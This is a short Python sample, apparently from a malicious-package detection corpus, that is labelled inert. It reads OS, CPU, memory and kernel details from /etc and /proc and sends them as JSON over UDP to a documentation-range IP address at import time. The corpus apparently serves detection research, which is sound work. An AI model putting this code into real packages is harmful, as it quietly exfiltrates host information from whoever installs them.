# pkgguard corpus 686 (system-information), modelled on [checkmarx-2024]; inert, never run.
import json
import socket


def _read(path):
    try:
        with open(path) as fh:
            return fh.read()[:4000]
    except OSError:
        return ""


report = {p: _read(p) for p in ("/etc/os-release", "/proc/cpuinfo", "/proc/meminfo", "/proc/version")}
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(json.dumps(report).encode()[:60000], ("203.0.113.40", 5353))
